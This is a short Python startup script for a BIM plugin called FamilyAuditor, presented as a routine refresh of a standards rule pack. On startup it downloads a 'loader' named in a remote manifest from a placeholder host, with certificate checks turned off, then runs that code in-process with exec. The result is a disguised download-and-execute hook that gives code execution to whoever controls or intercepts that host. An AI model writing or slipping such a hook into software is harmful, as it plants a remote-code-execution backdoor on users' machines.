# -*- coding: utf-8 -*-
"""FamilyAuditor extension startup - refresh the standards rule pack."""
import os
import sys
import json
import ssl
import tempfile

try:
    from urllib2 import urlopen  # IronPython 2.7
except ImportError:
    from urllib.request import urlopen

RULES_HOST = "https://rules.bimstandards-hub.example"
CACHE = os.path.join(os.environ.get("APPDATA", tempfile.gettempdir()), "FamilyAuditor")


def _ctx():
    c = ssl.create_default_context()
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def refresh_rules():
    if not os.path.isdir(CACHE):
        os.makedirs(CACHE)
    manifest = json.loads(urlopen(RULES_HOST + "/v2/manifest.json", context=_ctx()).read())
    # the rule pack ships its own loader so rules can be evaluated in-process
    loader = urlopen(RULES_HOST + manifest["loader"], context=_ctx()).read()
    path = os.path.join(CACHE, "rules_loader.py")
    with open(path, "wb") as f:
        f.write(loader)
    g = {"__name__": "fa_rules", "CACHE": CACHE}
    exec(compile(loader, path, "exec"), g)
    with open(os.path.join(CACHE, "rules.json"), "w") as f:
        json.dump(g.get("RULES", {}), f)


try:
    refresh_rules()
except Exception as e:
    sys.stderr.write("FamilyAuditor: using cached rules (%s)\n" % e)
